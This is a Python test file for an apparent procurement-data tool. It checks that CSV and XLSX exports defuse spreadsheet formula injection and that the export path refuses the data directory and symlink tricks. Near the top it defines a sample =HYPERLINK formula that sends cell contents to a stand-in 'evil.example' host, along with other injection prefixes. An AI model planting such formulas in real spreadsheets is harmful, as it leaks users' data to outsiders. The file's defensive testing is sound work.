"""Exports cannot be turned against the spreadsheet or the data directory (issue 14, items 13, 14)."""
import csv
import io

import openpyxl
import pandas as pd
import pytest

from decp_monitor.read.console import run_query
from decp_monitor.read.export import ExportError, check_output_path, export_dataframe
from decp_monitor.store.versions import Store
from tests.test_cli_export import export, small_dir  # noqa: F401  (fixture)

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
EVIL_NAMES = [EVIL, "+1+1", "-2", "@SUM(1)", "\x01=1+1"]


def _headers(data: bytes, fmt: str) -> list[str]:
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        row = next(sheet.iter_rows(min_row=1, max_row=1))
        assert all(cell.data_type != "f" for cell in row)
        return [cell.value for cell in row]
    text = data.decode("utf-8-sig")
    return next(csv.reader(io.StringIO(text), delimiter=";" if fmt == "csv-fr" else ","))


@pytest.mark.parametrize("fmt", ["csv", "csv-fr", "xlsx"])
def test_column_names_cannot_become_formulas(fmt):
    df = pd.DataFrame([[1] * (len(EVIL_NAMES) + 1)], columns=[*EVIL_NAMES, "ok"])
    headers = _headers(export_dataframe(df, fmt), fmt)
    assert headers[-1] == "ok"
    assert headers[:4] == ["'" + name for name in EVIL_NAMES[:4]]
    # XLSX drops the control characters it cannot hold, then guards what they hid; CSV keeps them
    # (a cell starting with U+0001 is not a formula).
    assert headers[4] == ("'=1+1" if fmt == "xlsx" else "\x01=1+1")


@pytest.mark.parametrize("fmt", ["csv", "csv-fr", "xlsx"])
def test_a_console_alias_is_inert_in_the_download(small_dir, fmt):  # noqa: F811
    result = run_query(f'SELECT 1 AS "{EVIL.replace(chr(34), chr(34) * 2)}"', Store(small_dir).current().path)
    assert result.ok, result.error_fr
    assert _headers(export_dataframe(result.df, fmt), fmt) == ["'" + EVIL]


# -- export --out ----------------------------------------------------------------------------------


def _targets(data_dir):
    store = Store(data_dir)
    (data_dir / "cache").mkdir(exist_ok=True)
    return [store.current().path, store.pointer, data_dir / "cache" / "x.csv", data_dir / "nouveau.csv",
            store.versions_dir / "autre.csv"]


def test_paths_inside_the_data_directory_are_refused(small_dir, capsys):  # noqa: F811
    for target in _targets(small_dir):
        before = target.read_bytes() if target.exists() else None
        assert export(small_dir, "buyer_compliance", "--out", str(target), "--force") == 2
        err = capsys.readouterr().err
        assert "répertoire de données" in err and "Export refusé" in err
        assert (target.read_bytes() if target.exists() else None) == before
    assert Store(small_dir).connect() is not None  # the database still opens


def test_a_symlink_into_the_data_directory_is_refused(small_dir, tmp_path, capsys):  # noqa: F811
    link = tmp_path / "innocent.csv"
    link.symlink_to(Store(small_dir).current().path)
    before = link.read_bytes()
    assert export(small_dir, "buyer_compliance", "--out", str(link), "--force") == 2
    assert "répertoire de données" in capsys.readouterr().err
    assert link.read_bytes() == before


def test_an_existing_file_is_kept_unless_forced(small_dir, tmp_path, capsys):  # noqa: F811
    target = tmp_path / "b.csv"
    target.write_text("précieux", encoding="utf-8")
    assert export(small_dir, "buyer_compliance", "--out", str(target)) == 2
    err = capsys.readouterr().err
    assert "existe déjà" in err and "--force" in err
    assert target.read_text(encoding="utf-8") == "précieux"
    assert export(small_dir, "buyer_compliance", "--out", str(target), "--force") == 0
    assert target.read_text(encoding="utf-8-sig").startswith('"buyer_siret"')


def test_a_symlink_planted_for_the_temporary_file_is_not_followed(small_dir, tmp_path):  # noqa: F811
    victim = tmp_path / "victim.txt"
    victim.write_text("intact", encoding="utf-8")
    target = tmp_path / "b.csv"
    (tmp_path / "b.csv.partial").symlink_to(victim)
    assert export(small_dir, "buyer_compliance", "--out", str(target)) == 0
    assert victim.read_text(encoding="utf-8") == "intact"
    assert target.read_text(encoding="utf-8").startswith('"buyer_siret"')
    assert sorted(p.name for p in tmp_path.iterdir()) == ["b.csv", "b.csv.partial", "victim.txt"]


def test_forcing_over_a_symlink_replaces_the_link_not_its_target(small_dir, tmp_path):  # noqa: F811
    victim = tmp_path / "victim.txt"
    victim.write_text("intact", encoding="utf-8")
    target = tmp_path / "b.csv"
    target.symlink_to(victim)
    assert export(small_dir, "buyer_compliance", "--out", str(target), "--force") == 0
    assert victim.read_text(encoding="utf-8") == "intact"
    assert not target.is_symlink() and target.read_text(encoding="utf-8").startswith('"buyer_siret"')


def test_check_output_path_is_a_pure_check(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    with pytest.raises(ExportError, match="répertoire de données"):
        check_output_path(data / "CURRENT", data)
    with pytest.raises(ExportError, match="répertoire de données"):
        check_output_path(tmp_path / "x" / ".." / "data" / "y.csv", data)
    assert check_output_path(tmp_path / "out.csv", data) == tmp_path / "out.csv"
